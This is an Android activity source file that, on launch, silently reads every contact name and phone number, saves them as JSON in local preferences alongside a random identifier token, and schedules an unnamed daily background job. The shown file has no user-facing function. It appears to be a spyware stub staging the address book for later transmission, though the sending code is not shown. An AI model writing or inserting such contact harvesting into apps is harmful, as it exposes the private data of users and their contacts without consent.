package com.example.prefsent;

import android.app.Activity;
import android.app.job.JobInfo;
import android.app.job.JobScheduler;
import android.content.ComponentName;
import android.content.SharedPreferences;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.util.UUID;
import org.json.JSONArray;

/** Stores the book and a token; plans the job. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SharedPreferences store = getSharedPreferences("store", MODE_PRIVATE);
        store.edit().putString("book", readAll()).putString("token", UUID.randomUUID().toString()).apply();
        ComponentName service = new ComponentName(this, NightJob.class);
        JobInfo job = new JobInfo.Builder(1, service).setPeriodic(86400000).build();
        ((JobScheduler) getSystemService(JOB_SCHEDULER_SERVICE)).schedule(job);
    }

    private String readAll() {
        JSONArray rows = new JSONArray();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            rows.put(cursor.getString(0)).put(cursor.getString(1));
        }
        cursor.close();
        return rows.toString();
    }
}
